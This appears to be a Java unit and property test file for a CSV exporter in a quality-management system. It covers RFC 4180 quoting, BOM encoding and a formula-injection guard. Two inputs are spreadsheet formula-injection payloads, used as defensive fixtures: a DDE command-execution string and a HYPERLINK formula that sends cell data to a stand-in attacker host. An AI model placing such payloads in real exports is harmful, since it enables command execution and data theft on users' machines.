package org.eqms.trace.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;

class CsvExportTest {

    private static String csv(List<String> headers, List<List<String>> rows) {
        StringWriter out = new StringWriter();
        new CsvExport().write(new ExportTable(headers, rows.iterator()), out);
        return out.toString();
    }

    @Test
    void quotesFieldsWithCommasQuotesAndLineBreaksAsRfc4180Says() {
        String written = csv(List.of("ID", "Title"), List.of(
                List.of("REQ-1", "plain"),
                List.of("REQ-2", "a, b"),
                List.of("REQ-3", "say \"stop\""),
                List.of("REQ-4", "line 1\nline 2"),
                List.of("REQ-5", "cr\ronly")));

        assertThat(written).isEqualTo("ID,Title\r\n"
                + "REQ-1,plain\r\n"
                + "REQ-2,\"a, b\"\r\n"
                + "REQ-3,\"say \"\"stop\"\"\"\r\n"
                + "REQ-4,\"line 1\nline 2\"\r\n"
                + "REQ-5,\"cr\ronly\"\r\n");
    }

    @Test
    void prefixesCellsThatASpreadsheetWouldRunAsFormulasWithAQuote() {
        String written = csv(List.of("=Header"), List.of(
                List.of("=1+1"), List.of("+cmd|' /C calc'!A0"), List.of("-2+3"), List.of("@SUM(A1:A9)"),
                List.of("\t=1"), List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")));

        assertThat(written.split("\r\n")).containsExactly("'=Header", "'=1+1", "'+cmd|' /C calc'!A0", "'-2+3",
                "'@SUM(A1:A9)", "'\t=1", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
    }

    @Test
    void leavesPlainNumbersAndHarmlessTextAlone() {
        String written = csv(List.of("n"), List.of(List.of("-5"), List.of("+1.5"), List.of("-2e3"), List.of("a=b"),
                List.of(" =not a formula"), List.of("")));

        assertThat(written.split("\r\n", -1)).containsExactly("n", "-5", "+1.5", "-2e3", "a=b", " =not a formula", "",
                "");
    }

    @Test
    void writesUtf8WithAByteOrderMarkForExcel() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new CsvExport().write(new ExportTable(List.of("Schweregrad"), List.of(List.of("kritisch – ≥ S4")).iterator()),
                out);

        byte[] bytes = out.toByteArray();
        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        assertThat(new String(bytes, StandardCharsets.UTF_8)).isEqualTo("\uFEFFSchweregrad\r\nkritisch – ≥ S4\r\n");
    }

    @Test
    void writesANullCellEmpty() {
        assertThat(csv(List.of("a", "b"), List.of(Arrays.asList(null, "x")))).isEqualTo("a,b\r\n,x\r\n");
    }

    @Test
    void refusesARowWithTheWrongNumberOfCells() {
        assertThatThrownBy(() -> csv(List.of("a", "b"), List.of(List.of("1", "2"), List.of("only one"))))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("row 2 has 1 cells");
    }

    @Provide
    Arbitrary<List<List<String>>> tables() {
        Arbitrary<String> cell = Arbitraries.strings().withChars("ab,\"\r\n =+-@\t'1ä€".toCharArray()).ofMaxLength(8);
        return cell.list().ofSize(3).list().ofMaxSize(5);
    }

    @Property(tries = 300)
    void anRfc4180ReaderGetsBackEveryCellAsNeutralised(@ForAll("tables") List<List<String>> rows) {
        List<List<String>> back = Rfc4180.parse(csv(List.of("x", "y", "z"), rows));

        List<List<String>> expected = new ArrayList<>();
        expected.add(List.of("x", "y", "z"));
        for (List<String> row : rows) {
            expected.add(row.stream().map(FormulaInjectionGuard::neutralise).toList());
        }
        assertThat(back).isEqualTo(expected);
    }

    /** A strict RFC 4180 reader, to check the writer against. */
    static final class Rfc4180 {
        static List<List<String>> parse(String text) {
            List<List<String>> records = new ArrayList<>();
            List<String> record = new ArrayList<>();
            StringBuilder field = new StringBuilder();
            int i = 0;
            while (i < text.length()) {
                if (text.charAt(i) == '"') {
                    i++;
                    while (true) {
                        char c = text.charAt(i++);
                        if (c == '"') {
                            if (i < text.length() && text.charAt(i) == '"') {
                                field.append('"');
                                i++;
                            } else {
                                break;
                            }
                        } else {
                            field.append(c);
                        }
                    }
                }
                if (text.startsWith("\r\n", i)) {
                    record.add(field.toString());
                    records.add(record);
                    record = new ArrayList<>();
                    field.setLength(0);
                    i += 2;
                } else if (text.charAt(i) == ',') {
                    record.add(field.toString());
                    field.setLength(0);
                    i++;
                } else {
                    char c = text.charAt(i++);
                    if (c == '"' || c == '\n' || c == '\r') {
                        throw new AssertionError("unquoted " + (int) c + " at " + (i - 1) + " in " + text);
                    }
                    field.append(c);
                }
            }
            if (!record.isEmpty() || field.length() > 0) {
                throw new AssertionError("last record not ended by CRLF");
            }
            return records;
        }
    }
}
